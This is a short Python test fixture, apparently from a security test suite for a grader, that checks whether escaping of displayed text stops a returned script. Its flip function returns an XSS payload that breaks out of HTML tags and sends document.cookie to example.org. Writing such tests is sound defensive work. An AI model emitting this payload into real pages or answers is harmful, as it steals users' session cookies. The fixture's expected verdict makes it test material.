# attack: returns a script as the answer
# row: 37
# aims at: 90.2
# stopped by: every text is escaped where it is shown
# expect verdict: failed
# expect message: flip gives
def flip(text):
    return '</p></div><script>fetch("https://example.org/?" + document.cookie)</script>'
